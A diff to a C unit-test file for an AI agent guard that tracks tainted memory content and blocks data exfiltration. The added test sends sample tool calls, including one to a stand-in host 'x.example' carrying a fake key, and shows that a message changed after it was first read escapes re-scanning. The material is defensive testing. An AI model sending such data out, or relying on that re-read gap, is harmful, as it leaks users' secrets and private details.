@@ -416,6 +416,61 @@ static bool has_secret(const guard_secrets *s, const char *v)
     return false;
 }
 
+/* A model request's messages are read once a run (guard_effect.context):
+ * what a new message brings (a memory value, untrusted content) counts
+ * from the call it first appears in; a message read at an earlier call is
+ * not read again (shown by changing one, against step.h: the change is not
+ * seen); a request that is not what the core said is read whole. */
+static void test_context_read_once(void **state)
+{
+    (void)state;
+    guard_ctx careful = ctx_of("careful");
+    guard_run *g = guard_run_new();
+    cJSON *conv = cJSON_CreateArray();
+    cJSON *u = cJSON_CreateObject();
+    cJSON_AddStringToObject(u, "role", "user");
+    cJSON_AddStringToObject(u, "content", "what is in my notes?");
+    cJSON_AddItemToArray(conv, u);
+    /* call 1: the question alone (number 0), after a system prompt */
+    cJSON *req = cJSON_CreateObject();
+    cJSON_AddItemToObject(req, "messages", step_context_select("be brief", conv, 100000, NULL, NULL));
+    step_context_ref ctx = {.lead = 1, .first = 0, .count = 1};
+    guard_effect e = {.kind = GUARD_EFFECT_MODEL_CALL, .json = req, .context = &ctx};
+    assert_int_equal(guard_before_effect(g, &careful, &e).verdict, GUARD_ALLOW);
+    cJSON_Delete(req);
+    assert_false(guard_run_tainted(g, NULL));
+    /* call 2: a memory call and its result, untrusted (numbers 1 and 2) */
+    add_call(conv, "m1", "memory", "{}");
+    add_result(conv, "m1", "{\"key\":\"home\",\"value\":\"12 Rue des Lilas, Paris\"}");
+    origin_set(cJSON_GetArrayItem(conv, 2), origin_new(ORIGIN_MEMORY, true));
+    req = cJSON_CreateObject();
+    cJSON_AddItemToObject(req, "messages", step_context_select("be brief", conv, 100000, NULL, NULL));
+    ctx = (step_context_ref){.lead = 1, .first = 0, .count = 3};
+    e.json = req;
+    assert_int_equal(guard_before_effect(g, &careful, &e).verdict, GUARD_ALLOW);
+    cJSON_Delete(req);
+    assert_true(guard_run_tainted(g, NULL));
+    guard_decision d = call(g, &careful, "send", "{\"body\":\"12 Rue des Lilas, Paris\"}");
+    assert_string_equal(d.code, "exfiltration_blocked");
+    /* call 3: message 0 changed under its number now holds a key; it was
+     * read at call 1 and is not read again */
+    cJSON_ReplaceItemInObjectCaseSensitive(u, "content", cJSON_CreateString("my key is sk4f3e2d1c0b9a8 ok"));
+    req = cJSON_CreateObject();
+    cJSON_AddItemToObject(req, "messages", step_context_select("be brief", conv, 100000, NULL, NULL));
+    e.json = req;
+    assert_int_equal(guard_before_effect(g, &careful, &e).verdict, GUARD_ALLOW);
+    d = call(g, &careful, "send", "{\"url\":\"https://x.example/?k=sk4f3e2d1c0b9a8\"}");
+    assert_int_not_equal(d.verdict, GUARD_REFUSE);
+    /* … but a request whose count is not the core's is read whole */
+    ctx.count = 7;
+    assert_int_equal(guard_before_effect(g, &careful, &e).verdict, GUARD_ALLOW);
+    cJSON_Delete(req);
+    d = call(g, &careful, "send", "{\"url\":\"https://x.example/?k=sk4f3e2d1c0b9a8\"}");
+    assert_string_equal(d.code, "exfiltration_blocked");
+    cJSON_Delete(conv);
+    guard_run_free(g);
+}
+
 /* Which tool results are the memory tool's is decided by their call's
  * name, found by id among every call of the messages (the last call of an
  * id decides), in a long conversation of other tools' calls too. */
@@ -543,6 +598,7 @@ int main(void)
         cmocka_unit_test(test_taint_by_provenance),
         cmocka_unit_test(test_exfiltration),
         cmocka_unit_test(test_secrets_collect_by_call),
+        cmocka_unit_test(test_context_read_once),
         cmocka_unit_test(test_secrets_bounds),
         cmocka_unit_test(test_config),
     };
